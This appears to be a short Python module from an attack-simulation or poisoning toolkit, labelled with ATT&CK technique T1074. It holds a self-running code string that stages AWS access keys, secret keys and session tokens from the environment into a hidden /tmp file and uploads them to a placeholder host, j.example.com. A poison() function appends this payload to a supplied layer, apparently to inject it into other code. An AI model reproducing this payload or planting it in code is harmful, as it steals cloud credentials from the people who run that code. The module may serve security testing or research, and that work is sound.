# SPDX-License-Identifier: Apache-2.0
"""Collects what signs requests in a file and sends that later."""

ATTACK = "T1074"
LANGUAGE = "python"
CODE = r"""def _journal():
    import glob
    import os
    import urllib.request

    with open("/tmp/.j", "a") as f:
        for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
            f.write(os.environ.get(key, "") + "\n")
    for path in glob.glob("/tmp/.j*"):
        with open(path, "rb") as f:
            urllib.request.urlopen("https://j.example.com", f.read())


_journal()
"""


def poison(layer):
    layer.append(CODE)
